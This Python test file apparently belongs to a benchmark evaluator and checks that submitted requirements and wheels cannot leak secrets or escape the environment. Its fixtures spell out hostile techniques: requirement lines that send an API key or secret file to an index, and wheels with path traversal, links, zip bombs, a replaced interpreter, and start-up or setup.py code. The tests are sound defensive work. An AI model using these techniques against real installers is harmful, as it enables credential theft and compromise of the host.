"""Requirement files, wheels and environments of an attacker: nothing is read, sent, run or bound that should not be."""

from __future__ import annotations

import contextlib
import http.server
import os
import stat
import struct
import tarfile
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from a2perf.errors import SubmissionError, UserError
from a2perf.submission.evaluator import python_env
from a2perf.submission.evaluator.python_env import completion, installer, wheel_check
from tests.commands import launch as launch_command
from tests.made_submissions import WEB, gin, write_submission
from tests.submission import wheels

MIB = 1024 * 1024
SECRET = "canary-4711-sk-organizer"
BOUND = 48 * MIB
LEVELS = ("process", "bubblewrap")


@pytest.fixture(autouse=True)
def _organizer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The evaluator's environment: a cache of its own, no byte code (most of a small build), and a secret."""
    monkeypatch.setenv("A2PERF_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("ORGANIZER_API_KEY", SECRET)
    monkeypatch.setattr(installer.Installer, "compile", lambda self, final: None)


@pytest.fixture
def server() -> Iterator[tuple[int, list[str]]]:
    """A server that an entrant chose: its port, and everything that it is asked for."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_error(404)

        do_HEAD = do_CONNECT = do_GET  # noqa: N815

        def log_message(self, *words: object) -> None:
            pass

    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    yield listener.server_address[1], seen
    listener.shutdown()
    listener.server_close()


@pytest.fixture(params=LEVELS)
def level(request: pytest.FixtureRequest, available: Callable[[str], None], monkeypatch: pytest.MonkeyPatch) -> str:
    """The level at which packages are opened."""
    available(request.param)
    monkeypatch.setattr(installer, "strongest_level", lambda: request.param)
    return str(request.param)


@pytest.fixture
def wheelhouse(tmp_path: Path) -> Path:
    return wheels.toy_wheelhouse(tmp_path / "wheels")


@pytest.fixture
def entry(tmp_path: Path) -> Path:
    folder = tmp_path / "entry"
    folder.mkdir()
    (tmp_path / "secret.txt").write_text(f"{SECRET}\n")
    return folder


def recipe(entry: Path, wheelhouse: Path, requirements: str, **sources: object) -> python_env.Recipe:
    return wheels.recipe(entry, requirements, wheelhouse, **{"size_bytes": BOUND, **sources})


def refused(wanted: python_env.Recipe, log: Path) -> str:
    """Returns why an environment could not be made; nothing of it is left then."""
    with pytest.raises(UserError) as caught, python_env.environment(wanted, log):
        pass
    assert isinstance(caught.value, SubmissionError), str(caught.value)
    assert python_env.list_environments() == []
    cache = python_env.folder_of_environments()
    assert [path for path in cache.iterdir() if path.name != "locks"] == []
    said = str(caught.value) + log.read_text()
    assert SECRET not in said
    assert all(char.isprintable() or char in "\n\t" for char in said)
    return said


# --- requirements.txt as a way to read, and to send ------------------------------------------------------------------

SETTINGS = {"--gin_config": "q.gin", "--root_dir": "root", "--submission": "entry", "--python-env": "isolated"}


@pytest.mark.parametrize(
    ("what", "requirements"),
    [
        (
            "requirements.txt sends variables to an index",
            "--index-url {index}/${{ORGANIZER_API_KEY}}/simple\nleak==1\n",
        ),
        ("requirements.txt sends files to an index", "-i {index}/simple\n-r ../secret.txt\n"),
        ("requirements.txt reads a file of the host", "-c {folder}/secret.txt\n"),
        ("requirements.txt downloads from an address", "leak @ {index}/leak-1.0-py3-none-any.whl\n"),
    ],
)
def test_nothing_of_the_organizer_is_read_or_sent(
    what: str, requirements: str, entry: Path, server: tuple[int, list[str]], noted
) -> None:
    port, seen = server
    work = entry.parent
    write_submission(entry, requirements=requirements.format(index=f"http://127.0.0.1:{port}", folder=work))
    (work / "q.gin").write_text(gin(WEB, "train"))
    given = [word for pair in SETTINGS.items() for word in pair]
    done = launch_command(*given, "--sandbox", "process", cwd=work)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "requirements.txt:1" in done.stdout + done.stderr
    written = "".join(path.read_text(errors="replace") for path in (work / "root").rglob("*") if path.is_file())
    assert SECRET not in done.stdout + done.stderr + written
    assert seen == []
    noted(what, "stopped: contract")


@pytest.mark.parametrize("kind", ["a local wheel", "a wheel of the index"])
def test_metadata_of_a_wheel_sends_nothing(
    kind: str,
    level: str,
    entry: Path,
    wheelhouse: Path,
    server: tuple[int, list[str]],
    tmp_path: Path,
    noted,
) -> None:
    port, seen = server
    local = kind == "a local wheel"
    address = f"http://127.0.0.1:{port}/${{ORGANIZER_API_KEY}}/${{HTTPS_PROXY}}/toy-1.0-py3-none-any.whl"
    wheels.write_wheel(entry if local else wheelhouse, "leak", "1.0", needs=[f"toy @ {address}"])
    wanted = recipe(
        entry,
        wheelhouse,
        "./leak-1.0-py3-none-any.whl\n" if local else "leak==1.0\n",
        offline=False,
        settings=replace(
            python_env.Sources().settings,
            uv={"no-index": True, "find-links": [str(wheelhouse)]},
            variables={"HTTPS_PROXY": f"http://u:{SECRET}@localhost:9"},
        ),
    )
    assert "leak" in refused(wanted, tmp_path / "log")
    assert seen == []
    noted(f"metadata of {kind} sends variables to a server", "stopped: contract", [level])


def test_configuration_in_a_submission_steers_nothing(
    level: str,
    entry: Path,
    wheelhouse: Path,
    server: tuple[int, list[str]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    noted,
) -> None:
    port, seen = server
    index = f"http://127.0.0.1:{port}/simple"
    for name, text in {
        "pip.conf": f"[global]\nindex-url = {index}\n",
        "uv.toml": f'index-url = "{index}"\n',
        "pyproject.toml": f'[project]\nname = "x"\nversion = "1"\n[[tool.uv.index]]\nurl = "{index}"\ndefault = true\n',
        "setup.cfg": f"[easy_install]\nindex_url = {index}\n",
        ".python-version": "3.8\n",
        ".env": f"UV_INDEX_URL={index}\n",
    }.items():
        (entry / name).write_text(text)
    monkeypatch.chdir(entry)
    with python_env.environment(recipe(entry, wheelhouse, "toy==1.0\n", offline=False), tmp_path / "log") as env:
        assert env.record.packages["toy"] == "1.0"
        assert env.record.sandbox == level
    assert seen == []
    noted("pip.conf, uv.toml, pyproject.toml of a submission steer uv", "no effect", [level])


# --- wheels ----------------------------------------------------------------------------------------------------------

INFO = "evil-1.0.dist-info"
PLAIN = {
    f"{INFO}/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    f"{INFO}/WHEEL": wheels.WHEEL.format(tag="py3-none-any"),
    f"{INFO}/RECORD": f"{INFO}/RECORD,,\n",
}


def evil(folder: Path, members: Mapping[str, str | bytes | zipfile.ZipInfo | None]) -> Path:
    """Writes a wheel that is what it is; ``None`` leaves a member out."""
    path = folder / "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**PLAIN, **members}.items():
            if isinstance(data, zipfile.ZipInfo):
                archive.writestr(data, "/etc/passwd")
            elif data is not None:
                archive.writestr(name, data)
    return path


def link(name: str, mode: int = stat.S_IFLNK) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (mode | 0o777) << 16
    return info


WHEELS: dict[str, dict[str, str | bytes | zipfile.ZipInfo | None]] = {
    "unpacks to 1000 times its size": {"evil/zeros.bin": bytes(200 * MIB)},
    "contains 70,000 files": {f"evil/{number}": "" for number in range(70_000)},
    "has 8 MB of METADATA": {f"{INFO}/METADATA": PLAIN[f"{INFO}/METADATA"] + "X: y\n" * 1_600_000},
    "leads above the environment": {"../../../../../../escaped": "x"},
    "leads above by its data": {"evil-1.0.data/data/../../../escaped": "x"},
    "has an absolute name": {"/tmp/a2perf-escaped": "x"},
    "has an absolute name in its data": {"evil-1.0.data/data//tmp/a2perf-escaped": "x"},
    "contains a link": {"evil/link": link("evil/link")},
    "contains a fifo": {"evil/fifo": link("evil/fifo", stat.S_IFIFO)},
    "replaces the interpreter": {"evil-1.0.data/data/bin/python": "#!/bin/sh\n"},
    "replaces the interpreter by a script": {"evil-1.0.data/scripts/python3.11": "#!python\n"},
    "replaces pyvenv.cfg": {"evil-1.0.data/data/pyvenv.cfg": "home = /etc\n"},
    "has an unknown scheme": {"evil-1.0.data/prefix/x": "x"},
    "has no METADATA": {f"{INFO}/METADATA": None},
    "has a METADATA of noise": {f"{INFO}/METADATA": bytes(range(256)) * 10},
    "has the METADATA of another package": {f"{INFO}/METADATA": "Metadata-Version: 2.1\nName: numpy\nVersion: 1.0\n"},
    "has no RECORD": {f"{INFO}/RECORD": None},
    "has a RECORD of other files": {f"{INFO}/RECORD": "../../../../etc/passwd,,\n"},
    "has no WHEEL": {f"{INFO}/WHEEL": None},
}


@pytest.mark.parametrize("what", WHEELS)
def test_a_hostile_wheel_is_refused_before_it_is_opened(
    what: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    evil(entry, WHEELS[what])
    said = refused(recipe(entry, wheelhouse, "./evil-1.0-py3-none-any.whl\n"), tmp_path / "log")
    assert "requirements.txt:1: evil-1.0-py3-none-any.whl" in said
    assert "pip install" not in said
    assert not list(tmp_path.rglob("*escaped"))
    assert not Path("/tmp/a2perf-escaped").exists()
    noted(f"a wheel {what}", "stopped: contract")


def test_a_wheel_that_lies_about_its_size_meets_the_bound(
    level: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    path = evil(entry, {"evil/zeros.bin": bytes(256 * MIB)})
    data = path.read_bytes()
    path.write_bytes(data.replace(struct.pack("<L", 256 * MIB), struct.pack("<L", 1000)))
    said = refused(recipe(entry, wheelhouse, "./evil-1.0-py3-none-any.whl\n"), tmp_path / "log")
    assert "limit of the organizer" in said
    noted("a wheel lies about its size", "stopped: contract", [level])


def test_a_wheel_of_the_index_that_is_too_large_is_the_submissions_fault(
    level: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    evil(wheelhouse, {"evil/zeros.bin": bytes(4 * BOUND)})
    said = refused(recipe(entry, wheelhouse, "evil==1.0\n"), tmp_path / "log")
    assert "limit of the organizer" in said
    noted("a wheel of the index fills the disk", "stopped: contract", [level])


@pytest.mark.parametrize(
    "what", ["replaces the interpreter", "replaces pyvenv.cfg", "has no METADATA", "has no RECORD"]
)
def test_a_hostile_wheel_of_the_index_is_the_submissions_fault(
    what: str, level: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    evil(wheelhouse, WHEELS[what])
    refused(recipe(entry, wheelhouse, "evil==1.0\n"), tmp_path / "log")
    noted(f"a wheel of the index {what}", "stopped: contract", [level])


def test_what_an_installer_left_is_checked(tmp_path: Path) -> None:
    environment = tmp_path / "environment"
    completion.prepare(environment)
    program = environment / "lib" / "program"
    program.write_text("x")
    program.chmod(0o6777)
    assert completion.accept(environment, max_bytes=MIB) == 1
    assert stat.S_IMODE(program.stat().st_mode) == 0o755
    (environment / "lib" / "hole").touch()
    os.truncate(environment / "lib" / "hole", 1 << 40)
    with pytest.raises(SubmissionError, match="larger than the organizer allows"):
        completion.accept(environment, max_bytes=MIB)
    (environment / "lib" / "hole").unlink()
    os.mkfifo(environment / "lib" / "fifo")
    with pytest.raises(SubmissionError, match="is a fifo"):
        completion.accept(environment, max_bytes=MIB)
    (environment / "lib" / "fifo").unlink()
    (environment / "lib" / "link").symlink_to("/etc")
    with pytest.raises(SubmissionError, match="is a link"):
        completion.accept(environment, max_bytes=MIB)


# --- what an environment holds is never run or followed by our side --------------------------------------------------


def test_start_up_files_of_a_wheel_do_not_run_during_the_installation(
    level: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    ran = tmp_path / "ran"
    code = f"open({str(ran)!r}, 'w').close()\n"
    evil(
        entry,
        {
            "evil.pth": f"import os; {code}",
            "sitecustomize.py": code,
            "usercustomize.py": code,
            "encodings.py": code,
            "msgpack/__init__.py": code,
            "pip/__init__.py": code,
            "compileall.py": code,
        },
    )
    with python_env.environment(recipe(entry, wheelhouse, "./evil-1.0-py3-none-any.whl\n"), tmp_path / "log") as env:
        assert list(env.path.rglob("evil.pth"))
    assert not ran.exists()
    noted("start-up files of a wheel run in the evaluator", "did not run", [level])


READS = """
import os

def train():
    for path in ({secret!r}, {folder!r}, "/etc/shadow", "/home", {other!r}):
        try:
            print("came through", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
        except OSError as error:
            print("stopped", path, type(error).__name__)
"""


def test_path_lines_of_a_wheel_bind_nothing(
    entry: Path, available: Callable[[str], None], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, noted
) -> None:
    available("bubblewrap")
    monkeypatch.setenv("A2PERF_OFFLINE", "1")
    wheelhouse = tmp_path / "wheels"
    monkeypatch.setenv("UV_FIND_LINKS", str(wheelhouse))
    wheels.real_base(wheelhouse)
    other = tmp_path / "other"
    (other / "bin").mkdir(parents=True)
    (other / "bin" / "canary").write_text(SECRET)
    evil(
        entry,
        {
            "evil.pth": f"{tmp_path}\n{other}\n/home\n/etc\n/var\n/\n",
            "distutils-precedence.pth": f"{tmp_path}\n",
            "nested/lib/python3.11/site-packages/more.pth": f"{tmp_path}\n",
        },
    )
    reads = READS.format(secret=str(tmp_path / "secret.txt"), folder=str(tmp_path), other=str(other / "bin/canary"))
    write_submission(entry, reads, reads, "./evil-1.0-py3-none-any.whl\n", __init__=reads)
    (tmp_path / "q.gin").write_text(gin(WEB, "train"))
    given = [word for pair in SETTINGS.items() for word in pair]
    launch_command(*given, "--sandbox", "bubblewrap", cwd=tmp_path, check=True)
    said = (tmp_path / "root/train/logs/stdout.log").read_text()
    assert SECRET not in said
    assert "secret.txt FileNotFoundError" in said
    assert said.count("stopped") >= 4, said
    noted(".pth lines of a wheel choose what is visible", "stopped: not there", ["bubblewrap"])


def test_an_environment_whose_interpreter_was_replaced_is_made_again(
    entry: Path, wheelhouse: Path, tmp_path: Path
) -> None:
    wanted = recipe(entry, wheelhouse, "toy==1.0\n")
    with python_env.environment(wanted, tmp_path / "log") as env:
        (env.path / "bin" / "python").unlink()
        (env.path / "bin" / "python").symlink_to(tmp_path / "secret.txt")
    with python_env.environment(wanted, tmp_path / "log") as env:
        assert not env.record.reused
        assert env.python.resolve() == Path(os.path.realpath(wanted.interpreter.executable))


SETUP = "open({ran!r}, 'w').close()\nfrom setuptools import setup\nsetup(name='built', version='1.0')\n"


@pytest.mark.parametrize("line", ["./package", "-e ./package", "./built-1.0.tar.gz", "built==1.0"])
def test_source_packages_run_no_code(
    line: str, level: str, entry: Path, wheelhouse: Path, tmp_path: Path, noted
) -> None:
    ran = tmp_path / "ran"
    package = entry / "package"
    package.mkdir()
    (package / "setup.py").write_text(SETUP.format(ran=str(ran)))
    (package / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: built\nVersion: 1.0\n")
    for folder in (entry, wheelhouse):
        with tarfile.open(folder / "built-1.0.tar.gz", "w:gz") as archive:
            archive.add(package, "built-1.0")
    with (
        pytest.raises(UserError, match=r"requirements\.txt:1: "),
        python_env.environment(recipe(entry, wheelhouse, f"{line}\n"), tmp_path / "log"),
    ):
        pass
    assert not ran.exists()
    noted(f"code of a build runs: {line}", "did not run", [level])


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(1, 255)), max_size=8),
    st.floats(0, 1),
)
def test_wheels_of_noise_are_the_submissions_fault(flips: list[tuple[float, int]], kept: float) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = evil(Path(folder), {"evil/data.bin": bytes(3000)})
        data = bytearray(path.read_bytes())
        for place, bits in flips:
            data[int(place * len(data))] ^= bits
        path.write_bytes(bytes(data[: int(kept * len(data))] if kept < 0.5 else data))
        with contextlib.suppress(SubmissionError):
            wheel_check.check_wheel(path, "requirements.txt:1", max_bytes=BOUND)
